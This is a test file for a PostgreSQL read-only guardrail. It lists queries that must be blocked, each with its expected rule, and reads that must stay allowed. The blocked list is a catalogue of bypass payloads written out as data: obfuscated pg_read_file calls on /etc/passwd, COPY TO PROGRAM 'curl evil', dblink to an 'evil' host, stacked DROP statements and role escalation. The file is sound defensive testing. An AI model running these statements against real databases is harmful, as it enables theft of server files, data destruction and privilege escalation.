import { beforeAll, describe, expect, it } from 'vitest';
import type { CompiledGuardrails } from './compile.js';
import { compileGuardrails } from './compile.js';
import { loadGuardrailParser } from './parser.js';

// Every route we know to get a forbidden statement past the read-only profile, each with the rule
// id that must catch it; then the ordinary reads that must keep working.
let g: CompiledGuardrails;
beforeAll(async () => {
  await loadGuardrailParser();
  g = compileGuardrails(['read-only']);
});

function ruleOf(sql: string): string {
  const d = g(sql);
  return d.action === 'allow' ? 'allow' : d.ruleId;
}

const blocked: [string, string][] = [
  // stacked statements, comments, case
  ['SELECT 1; DROP TABLE x', 'read-only/ddl'],
  ['SELECT 1 /* ; */; DELETE FROM t WHERE id = 1', 'read-only/write'],
  ['SELECT 1 -- harmless\n; UPDATE t SET a = 1 WHERE id = 2', 'read-only/write'],
  ['SELECT /* outer /* nested */ still comment */ 1; INSERT INTO t VALUES (1)', 'read-only/write'],
  ['sElEcT 1; dElEtE fRoM t wHeRe id = 1', 'read-only/write'],
  // server files however the name is spelled
  ["SELECT pg_read_file('/etc/passwd')", 'read-only/server-files'],
  ["SELECT \"pg_read_file\"('/etc/passwd')", 'read-only/server-files'],
  ["SELECT PG_CATALOG.PG_READ_FILE('/etc/passwd')", 'read-only/server-files'],
  ["SELECT pg_catalog.\"pg_read_file\"('/etc/passwd')", 'read-only/server-files'],
  ["SELECT U&\"\\0070g_read_file\"('/etc/passwd')", 'read-only/server-files'],
  ["SELECT U&\"!0070g_read_file\" UESCAPE '!' ('/etc/passwd')", 'read-only/server-files'],
  ["SELECT pg_read_binary_file($$/etc/passwd$$)", 'read-only/server-files'],
  ["SELECT pg_read_file(E'/etc/\\x70asswd')", 'read-only/server-files'],
  ["SELECT pg_ls_dir('.')", 'read-only/server-files'],
  ["SELECT * FROM pg_stat_file('postgresql.conf')", 'read-only/server-files'],
  ["SELECT lo_import('/etc/passwd')", 'read-only/server-files'],
  ["SELECT lo_export(lo_from_bytea(0, 'x'), '/tmp/x')", 'read-only/server-files'],
  ["SELECT * FROM dblink('host=evil', 'SELECT 1') AS t(a int)", 'unclassifiable/dynamic-sql'],
  ["SELECT public.dblink_exec('host=evil', 'DROP TABLE x')", 'unclassifiable/dynamic-sql'],
  ["SELECT pg_file_write('/tmp/x', 'data', false)", 'read-only/server-files'],
  // functions wherever they hide
  ["SELECT * FROM t WHERE a = (SELECT length(pg_read_file('x')))", 'read-only/server-files'],
  ["SELECT * FROM t ORDER BY pg_read_file('x')", 'read-only/server-files'],
  ["VALUES (1, pg_read_file('x'))", 'read-only/server-files'],
  ["SELECT * FROM t, LATERAL (SELECT pg_read_file(t.path)) f", 'read-only/server-files'],
  ["WITH x AS (SELECT pg_ls_dir('/')) SELECT * FROM x", 'read-only/server-files'],
  ["SELECT count(*) FILTER (WHERE pg_read_file('x') IS NOT NULL) FROM t", 'read-only/server-files'],
  ["SELECT row_number() OVER (ORDER BY pg_read_file('x')) FROM t", 'read-only/server-files'],
  ["SELECT coalesce(NULL, upper(pg_read_file('x')))", 'read-only/server-files'],
  ["SELECT CASE WHEN true THEN pg_read_file('x') END", 'read-only/server-files'],
  ["SELECT ARRAY[pg_read_file('x')]", 'read-only/server-files'],
  ["SELECT * FROM t GROUP BY a HAVING max(pg_read_file('x')) > ''", 'read-only/server-files'],
  ["SELECT 1 UNION ALL SELECT length(pg_read_file('x'))", 'read-only/server-files'],
  ["SELECT * FROM ROWS FROM (pg_ls_dir('/')) WITH ORDINALITY", 'read-only/server-files'],
  ["SELECT * FROM XMLTABLE('/a' PASSING (pg_read_file('x')::xml) COLUMNS a int)", 'read-only/server-files'],
  ["SELECT * FROM t WHERE EXISTS (SELECT 1 FROM u WHERE u.id = t.id AND pg_read_file('x') <> '')", 'read-only/server-files'],
  // writes in disguise
  ["DECLARE c CURSOR FOR SELECT nextval('s')", 'read-only/write'],
  ["VALUES (nextval('s'))", 'read-only/write'],
  ['SELECT * FROM t FOR NO KEY UPDATE', 'read-only/lock'],
  ['WITH d AS (DELETE FROM t WHERE id = 1 RETURNING *) SELECT * FROM d', 'read-only/write'],
  ['WITH u AS (UPDATE t SET a = 2 WHERE id = 1 RETURNING *) SELECT 1', 'read-only/write'],
  ['EXPLAIN ANALYZE DELETE FROM t WHERE id = 1', 'read-only/write'],
  ['EXPLAIN (ANALYZE, BUFFERS) INSERT INTO t VALUES (1)', 'read-only/write'],
  ['CREATE TABLE c AS SELECT * FROM t', 'read-only/write'],
  ['SELECT * INTO c FROM t', 'read-only/write'],
  ['COPY t FROM STDIN', 'read-only/write'],
  ['COPY (DELETE FROM t WHERE id = 1 RETURNING *) TO STDOUT', 'read-only/write'],
  ["COPY t FROM '/tmp/data.csv'", 'read-only/server-files'],
  ["COPY t TO PROGRAM 'curl evil'", 'read-only/server-files'],
  ["COPY (SELECT 1) TO '/tmp/out'", 'read-only/server-files'],
  ["SELECT nextval('s')", 'read-only/write'],
  ["SELECT setval('s', 1)", 'read-only/write'],
  ['SELECT txid_current()', 'read-only/write'],
  ['SELECT pg_current_xact_id()', 'read-only/write'],
  ["SELECT lo_from_bytea(0, 'x')", 'read-only/write'],
  ['MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN UPDATE SET a = s.a', 'read-only/write'],
  ['INSERT INTO t VALUES (1) ON CONFLICT (id) DO UPDATE SET a = 2', 'read-only/write'],
  ['UPDATE t SET a = 1 WHERE true', 'read-only/write'],
  ['DELETE FROM t WHERE 1=1', 'read-only/write'],
  ['TRUNCATE t', 'read-only/write'],
  ['REFRESH MATERIALIZED VIEW mv', 'read-only/write'],
  ['PREPARE p AS DELETE FROM t WHERE id = $1', 'read-only/write'],
  // DO blocks
  ['DO $$BEGIN DELETE FROM t; END$$', 'read-only/write'],
  ['DO $x$BEGIN PERFORM pg_read_file($$/etc/passwd$$); END$x$', 'read-only/server-files'],
  ["DO $$DECLARE n bigint := nextval('s'); BEGIN END$$", 'read-only/write'],
  ["DO $$BEGIN IF (SELECT count(*) FROM t) > 0 THEN GRANT ALL ON t TO public; END IF; END$$", 'read-only/privilege'],
  ["DO $$BEGIN EXECUTE 'DELETE FROM t'; END$$", 'unclassifiable/dynamic-sql'],
  ["DO $$BEGIN EXECUTE format('SELECT %L', 1); END$$", 'unclassifiable/dynamic-sql'],
  ["DO $$DECLARE r record; BEGIN FOR r IN EXECUTE 'SELECT 1' LOOP END LOOP; END$$", 'unclassifiable/dynamic-sql'],
  ["DO LANGUAGE plpython3u $$import os$$", 'unclassifiable/body-language'],
  ['DO $$BEGIN garbage here; END$$', 'unclassifiable/body-unparseable'],
  // privilege and session identity
  ['SET ROLE postgres', 'read-only/privilege'],
  ['SET LOCAL ROLE postgres', 'read-only/privilege'],
  ['RESET ROLE', 'read-only/privilege'],
  ['SET SESSION AUTHORIZATION postgres', 'read-only/privilege'],
  ['RESET SESSION AUTHORIZATION', 'read-only/privilege'],
  ["SELECT set_config('role', 'postgres', false)", 'read-only/privilege'],
  ["SELECT set_config('session_authorization', 'postgres', true)", 'read-only/privilege'],
  ['SELECT set_config($1, $2, false)', 'unclassifiable/dynamic-sql'],
  ['GRANT SELECT ON t TO bob', 'read-only/privilege'],
  ['REVOKE SELECT ON t FROM bob', 'read-only/privilege'],
  ["CREATE ROLE eve LOGIN PASSWORD 'x'", 'read-only/privilege'],
  ['ALTER ROLE bob SUPERUSER', 'read-only/privilege'],
  ['ALTER TABLE t OWNER TO bob', 'read-only/privilege'],
  // server configuration
  ["ALTER SYSTEM SET shared_preload_libraries = 'evil'", 'read-only/server-config'],
  ["LOAD 'evil'", 'read-only/server-config'],
  ["SET session_replication_role = replica", 'read-only/server-config'],
  ['SET log_statement = none', 'read-only/server-config'],
  ["SELECT set_config('log_min_duration_statement', '-1', false)", 'read-only/server-config'],
  ['SELECT pg_terminate_backend(123)', 'read-only/server-config'],
  ['SELECT pg_reload_conf()', 'read-only/server-config'],
  ['CREATE EXTENSION dblink', 'read-only/server-files'],
  // undoing the database-side read-only backstop, search_path shadowing
  ['BEGIN READ WRITE', 'read-only/read-write-transaction'],
  ['START TRANSACTION ISOLATION LEVEL SERIALIZABLE, READ WRITE', 'read-only/read-write-transaction'],
  ['SET TRANSACTION READ WRITE', 'read-only/read-write-transaction'],
  ['SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE', 'read-only/read-write-transaction'],
  ['SET default_transaction_read_only = off', 'read-only/read-write-transaction'],
  ["SELECT set_config('transaction_read_only', 'off', false)", 'read-only/read-write-transaction'],
  ['SET search_path = public, pg_catalog', 'read-only/search-path'],
  ["SET search_path = 'public, pg_catalog'", 'read-only/search-path'],
  ["SELECT set_config('search_path', 'evil, pg_catalog', false)", 'read-only/search-path'],
  // DDL
  ['CREATE TABLE x (a int)', 'read-only/ddl'],
  ['CREATE RULE r AS ON SELECT TO t DO INSTEAD SELECT 1', 'read-only/ddl'],
  ['CREATE FUNCTION f() RETURNS int LANGUAGE plpgsql AS $$BEGIN RETURN 1; END$$', 'read-only/ddl'],
  ["CREATE FUNCTION f() RETURNS void LANGUAGE sql AS 'DELETE FROM t'", 'read-only/write'],
  ["CREATE FUNCTION f() RETURNS text LANGUAGE sql AS $$SELECT pg_read_file('x')$$", 'read-only/server-files'],
  ['CREATE VIEW v AS SELECT * FROM t', 'read-only/ddl'],
  ["COMMENT ON TABLE t IS 'x'", 'read-only/ddl'],
  // locks, procedures, notifications, maintenance
  ['SELECT * FROM t FOR UPDATE', 'read-only/lock'],
  ['SELECT * FROM t FOR SHARE SKIP LOCKED', 'read-only/lock'],
  ['LOCK TABLE t IN ACCESS EXCLUSIVE MODE', 'read-only/lock'],
  ['SELECT pg_advisory_lock(1)', 'read-only/lock'],
  ['CALL proc()', 'read-only/procedure'],
  ["NOTIFY chan, 'x'", 'read-only/notify'],
  ["SELECT pg_notify('chan', 'x')", 'read-only/notify'],
  ['VACUUM t', 'read-only/maintenance'],
  ['ANALYZE t', 'read-only/maintenance'],
  ['CHECKPOINT', 'read-only/maintenance'],
  // functions the guardrail cannot vouch for
  ['SELECT my_function(1)', 'read-only/unknown-function'],
  ['SELECT public.now()', 'read-only/unknown-function'],
  ['SELECT "PG_READ_FILE"(1)', 'read-only/unknown-function'],
  ["SELECT * FROM t WHERE a = any(select evil())", 'read-only/unknown-function'],
  // dynamic SQL through builtins
  ["SELECT query_to_xml('DELETE FROM t', true, true, '')", 'unclassifiable/dynamic-sql'],
  ["SELECT ts_stat('SELECT pg_read_file(''x'')::tsvector')", 'unclassifiable/dynamic-sql'],
  // unparseable
  ['DECLARE c CURSOR FOR DELETE FROM t', 'parse/syntax'],
  ['SELEC 1', 'parse/syntax'],
  ["SELECT 'unterminated", 'parse/syntax'],
  ['SELECT 1;\0 DROP TABLE x', 'parse/null-byte'],
];

const allowed: string[] = [
  'SELECT abalance FROM pgbench_accounts WHERE aid = $1',
  'SELECT a.id, b.name FROM a JOIN b ON a.id = b.a_id LEFT JOIN c USING (id) WHERE a.x > 3',
  'WITH recent AS (SELECT * FROM orders WHERE created > now() - interval \'1 day\') SELECT count(*) FROM recent',
  'SELECT id, sum(amount) OVER (PARTITION BY id ORDER BY ts ROWS BETWEEN 1 PRECEDING AND CURRENT ROW) FROM pay',
  'SELECT now(), current_timestamp, clock_timestamp(), random(), gen_random_uuid()',
  'SELECT pg_catalog.lower(name), upper(name), length(name), coalesce(a, 0) FROM t',
  "SELECT to_char(ts, 'YYYY'), date_trunc('day', ts), extract(year FROM ts) FROM t",
  "SELECT jsonb_build_object('a', 1) -> 'a', array_agg(x ORDER BY x) FROM t GROUP BY y",
  "SELECT current_setting('search_path'), version(), pg_backend_pid(), current_user",
  'SHOW statement_timeout',
  'BEGIN',
  'BEGIN READ ONLY',
  'COMMIT',
  'ROLLBACK',
  'SAVEPOINT s1',
  'SET statement_timeout = 5000',
  "SET application_name = 'report'",
  'SET search_path = app, public',
  'SET search_path = pg_catalog, app',
  'RESET search_path',
  'SET default_transaction_read_only = on',
  'COPY (SELECT * FROM t) TO STDOUT',
  'COPY t TO STDOUT WITH (FORMAT csv)',
  'EXPLAIN SELECT * FROM t',
  'EXPLAIN ANALYZE SELECT * FROM t',
  'DECLARE c CURSOR FOR SELECT * FROM t',
  'FETCH 10 FROM c',
  'CLOSE c',
  'LISTEN chan',
  'UNLISTEN *',
  'PREPARE q AS SELECT * FROM t WHERE id = $1',
  'DEALLOCATE ALL',
  'DISCARD ALL',
  'DO $$BEGIN PERFORM 1; END$$',
  'DO $$DECLARE n int; BEGIN SELECT count(*) INTO n FROM t; END$$',
  "SELECT nextval IS NULL FROM (SELECT 1 AS nextval) s",
  'SELECT * FROM t TABLESAMPLE SYSTEM (10)',
  'SELECT 1',
  '',
  ';',
  '-- just a comment',
  "SELECT 'DROP TABLE t; SELECT pg_read_file(1)' AS text_not_code",
  'SELECT $$DELETE FROM t$$',
];

describe('read-only profile: forbidden statements are blocked by the right rule', () => {
  it.each(blocked)('%s -> %s', (sql, rule) => {
    expect(ruleOf(sql)).toBe(rule);
    const d = g(sql);
    expect(d.action).toBe('block');
    if (d.action === 'block') expect(d.message).toContain(rule);
  });
});

describe('read-only profile: ordinary reads stay usable', () => {
  it.each(allowed.map((s) => [s]))('%s', (sql) => {
    expect(ruleOf(sql)).toBe('allow');
  });
});
